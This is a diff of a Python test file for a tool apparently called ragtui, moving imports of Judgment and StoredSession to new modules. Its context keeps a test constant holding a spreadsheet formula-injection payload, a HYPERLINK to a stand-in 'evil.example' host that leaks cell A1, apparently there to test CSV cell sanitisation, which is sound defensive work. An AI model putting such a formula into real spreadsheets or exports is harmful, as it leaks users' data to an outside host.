@@ -11,9 +11,10 @@ from pathlib import Path
 import pytest
 
 from ragtui.core.errors import RagtuiError
-from ragtui.core.metrics.base import Judgment
 from ragtui.core.record.export import header, safe_cell, sessions_to_csv, write_csv
-from ragtui.core.record.store import Store, StoredSession
+from ragtui.core.record.store import Store
+from ragtui.core.records.judgments import Judgment
+from ragtui.core.records.stored import StoredSession
 
 PLAIN = ["run", "scenario", "persona", "language", "date", "customer_model", "bot_model", "judge_model"]
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
